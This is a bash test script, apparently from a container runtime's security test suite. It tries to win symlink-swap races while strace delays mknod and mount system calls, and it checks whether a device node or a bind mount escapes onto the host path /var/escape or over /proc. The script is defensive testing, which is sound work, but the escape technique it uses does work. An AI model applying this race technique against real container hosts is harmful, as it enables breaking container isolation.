#!/bin/bash
# After escapes.sh: a device and a volume below another volume, while another container exchanges a folder in their path
# for a symlink, again and again. strace opens the window between the check of the path and its use.
: "${runtime:?}"
copy_root
rm -rf /var/escape
mkdir -p /tmp/e/source /tmp/e/other /var/escape /tmp/e/root/var/escape
echo hidden > /tmp/e/other/hidden
cd /tmp/e/source || exit

exchange_for() {  # TARGET
    # The runtime may create or use the folder between two of these commands, so that one of them fails.
    {
        set +e
        while true; do
            rm -rf folder; mkdir folder; sleep 0.15
            rm -rf folder; ln -s "$1" folder; sleep 0.15
        done
    } 2> /dev/null &
    exchanger=$!
}

run_delayed() {  # SYSTEM_CALLS MICROSECONDS
    timeout 60 strace -f --seccomp-bpf -o /dev/null -e "trace=$1" -e "inject=$1:delay_enter=$2" "$runtime" run --bundle /tmp/e escape \
        < /dev/null > /tmp/e/out 2>&1 || true
    "$runtime" delete -f escape > /dev/null 2>&1 || true
}

node='{path: "/dev/x/folder/node", type: "c", major: 1, minor: 3, fileMode: 384, uid: 7}'
write_config "$(bind /dev/x) | .process.args = [\"true\"] | .linux.devices = [$node]"
exchange_for /var/escape
for _ in 1 2 3 4 5 6 7 8; do run_delayed mknod,mknodat 170000; done
kill $exchanger
[ -z "$(ls -A /var/escape)" ] && echo closed || echo DONE

write_config "$(bind /v) | .mounts += [{destination: \"/v/folder/sys\", type: \"bind\", source: \"/tmp/e/other\", options: [\"rbind\"]}]
    | .process.args = [\"cat\", \"/proc/sys/hidden\"]"
exchange_for /proc
for window in 'open_tree,fsopen 20000' 'mount,move_mount 170000'; do
    for _ in 1 2 3 4 5 6 7 8; do
        # shellcheck disable=SC2086  # two arguments
        run_delayed $window
        ! grep -x hidden /tmp/e/out || echo DONE
    done
done
kill $exchanger

# Without the other container.
rm -rf folder
write_config "$(bind /dev/x) | .process.args = [\"stat\", \"-c\", \"%F %t %T %a %u\", \"/dev/x/folder/node\"] | .linux.devices = [$node]"
try 'a device in a volume'
cat /tmp/e/out
rm -rf /tmp/e /var/escape
